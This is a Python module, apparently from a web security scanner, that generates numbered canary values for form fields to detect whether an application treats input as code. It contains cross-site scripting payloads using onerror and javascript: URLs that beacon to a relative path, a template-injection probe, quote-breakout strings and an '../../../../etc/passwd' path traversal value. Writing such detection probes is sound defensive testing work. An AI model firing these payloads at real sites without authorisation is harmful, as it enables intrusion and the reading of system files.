"""Hostile words: values for fields that show, wherever they come out again, whether something took them for code.

Each has a number, by which it is found again in whatever page, file or record it turns up.
"""

from __future__ import annotations

import re
from itertools import count

from doorward.prove.filling import Filling
from doorward.prove.pages import Field, Form

#: The mark of a planted word. What follows it in the word would break out of quotes.
MARK = re.compile(r"zq(\d+)z")
#: Where a word leads that was carried out in a browser.
RAN = re.compile(r"/zqran/(\d+)")
#: What a template engine makes of a word that it takes for a template: 7 × 191.
COMPUTED = re.compile(r"zq(\d+)e\S{0,12}1337")
_STARTERS = "=+-@"
_TYPED = ("text", "search", "tel", "textarea", "url", "email")
_LINKS = re.compile(r"url|link|href|site|home|image|logo|next|back|return|target|redirect|goto|continue", re.I)
#: Values that break what trusts a field to be what its form allows.
AWKWARD = (
    "",
    "'",
    "zq\x00",
    "9" * 400,
    "-1",
    "1e999",
    "NaN",
    "9223372036854775808",
    "\u202e\u200b\U0001f600",
    "../../../../etc/passwd",
    "[]",
    "٣",
    "%",
)


def is_typed(field: Field) -> bool:
    """Whether people type words into this field."""
    return field.type in _TYPED


def is_link(field: Field) -> bool:
    """Whether what is typed into this field may become an address."""
    return field.type == "url" or bool(is_typed(field) and _LINKS.search(field.name))


class Words:
    """Hostile words, each with a number of its own.

    `planted` says what each number was planted in, `links` which of them are addresses.
    """

    def __init__(self) -> None:
        self._numbers = count(1)
        self.planted: dict[int, str] = {}
        self.links: set[int] = set()

    def number(self, where: str) -> int:
        """A new number for what is planted here."""
        number = next(self._numbers)
        self.planted[number] = where
        return number

    def word(self, where: str, room: int) -> str:
        """A word that breaks out of text, attributes and strings, that templates compute, and that browsers run.

        Arguments:
            where: what it is planted in.
            room: how many characters there may be; the most telling ones come first.
        """
        number = self.number(where)
        start = _STARTERS[number % len(_STARTERS)]
        parts = (
            f"{start}zq{number}z'\" zq{number}a=1><zq{number}t>",
            f"zq{number}e{{{{7*191}}}}${{7*191}}",
            f"<img src=x onerror=fetch('/zqran/{number}')>",
            f"';fetch('/zqran/{number}')//\";fetch('/zqran/{number}')//",
            f"</script><script>fetch('/zqran/{number}')</script>",
        )
        made = ""
        for part in parts:
            made += part if len(made) + len(part) <= room else ""
        return made or f"<zq{number}t>"[: max(room, 1)]

    def picture(self, where: str) -> str:
        """The shortest word that browsers run."""
        number = self.number(where)
        return f"zq{number}z<img src=x onerror=fetch('/zqran/{number}')>"

    def address(self, where: str) -> str:
        """An address that runs code when it is followed."""
        number = self.number(where)
        self.links.add(number)
        return f"javascript:fetch('/zqran/{number}')"

    def mail_address(self, where: str) -> str:
        """An address for mails whose quoted part breaks out."""
        number = self.number(where)
        return f'"zq{number}z\'<zq{number}t>"@example.org'


class HostileFilling(Filling):
    """Fills forms in with hostile words where people type, and as ever elsewhere."""

    def __init__(self, words: Words) -> None:
        super().__init__()
        self.words = words

    def hostile(self, form: Form, most: int) -> dict[str, str]:
        """A hostile word of at most so many characters for each field of the form that people type into."""
        made = {}
        for field in form.fields:
            where = f"the field {field.name} of {form.method} {form.action}"
            if field.type == "email":
                made[field.name] = self.words.mail_address(where)
            elif is_typed(field):
                room = int(field.rules.get("maxlength") or 4000)
                lines = 2 if field.type == "textarea" and room >= 2 * most else 1
                made[field.name] = "\n".join(self.words.word(where, min(room, most)) for _ in range(lines))
        return made

    def hostile_links(self, form: Form) -> dict[str, str]:
        """An address that runs code for each field that may become a link."""
        return {
            field.name: self.words.address(f"the field {field.name} of {form.method} {form.action}")
            for field in form.fields
            if is_link(field)
        }
